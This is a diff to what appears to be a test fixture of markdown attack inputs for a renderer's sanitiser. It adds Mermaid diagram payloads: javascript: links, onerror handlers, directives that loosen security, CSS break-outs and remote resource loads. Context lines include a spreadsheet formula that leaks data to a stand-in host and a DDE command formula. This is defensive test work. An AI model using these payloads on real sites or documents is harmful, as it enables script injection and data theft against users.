@@ -103,6 +103,39 @@ export const attacks: readonly Attack[] = [
   {name: 'alt that breaks out', markdown: '![" onerror="RUN](evil.svg "\' onload=\'RUN")'},
   {name: 'formula', markdown: '=HYPERLINK("WEB/leak?"&A1,"x")'},
   {name: 'formula with DDE', markdown: "+cmd|' /C calc'!A0"},
+  // Diagrams
+  {name: 'mermaid with a javascript link', markdown: '```mermaid\ngraph TD\nA-->B\nclick A href "javascript:RUN"\n```'},
+  {name: 'mermaid that calls back', markdown: '```mermaid\ngraph TD\nA-->B\nclick A call RUN()\n```'},
+  {name: 'mermaid with HTML in a label', markdown: '```mermaid\ngraph TD\nA["<img src=x onerror=RUN><b>x</b>"]-->B\n```'},
+  {name: 'mermaid with a picture in a label', markdown: '```mermaid\ngraph TD\nA["<img src=WEB/m.png>"]-->B\n```'},
+  {
+    name: 'mermaid directive that loosens',
+    markdown:
+      '```mermaid\n%%{init: {"securityLevel":"loose","htmlLabels":true,"flowchart":{"htmlLabels":true}}}%%\ngraph TD\nA["<script>RUN</script><iframe src=WEB/m></iframe>"]-->B\n```'
+  },
+  {
+    name: 'mermaid front matter that loosens',
+    markdown: '```mermaid\n---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n---\ngraph TD\nA["<img src=x onerror=RUN>"]-->B\n```'
+  },
+  {
+    name: 'mermaid with a style sheet',
+    markdown: '```mermaid\n%%{init: {"themeCSS":"@import url(WEB/m.css);.node rect{fill:url(WEB/m2.svg)}"}}%%\ngraph TD\nA-->B\n```'
+  },
+  {
+    name: 'mermaid theme that breaks out',
+    markdown:
+      '```mermaid\n%%{init: {"theme":"base","themeVariables":{"primaryColor":"red;}</style><script>RUN</script><style>@import \'WEB/m3.css\';"}}}%%\ngraph TD\nA-->B\n```'
+  },
+  {
+    name: 'mermaid style with an address',
+    markdown: '```mermaid\ngraph TD\nA-->B\nclassDef k fill:#f00,background-image:url(WEB/m4.png)\nclass A k\n```'
+  },
+  {name: 'mermaid with a picture as a node', markdown: '```mermaid\nflowchart TD\nA@{img: "WEB/m5.png", label: "x", w: 60, h: 60}\n```'},
+  {
+    name: 'mermaid sequence link',
+    markdown:
+      '```mermaid\nsequenceDiagram\nparticipant A\nlink A: x @ javascript:RUN\nlinks A: {"y": "javascript:RUN"}\nA->>A: <img src=x onerror=RUN>\n```'
+  },
   // Last: it swallows the rest of the file, as it does in a browser.
   {name: 'script never closed', markdown: '<script>RUN'}
 ]
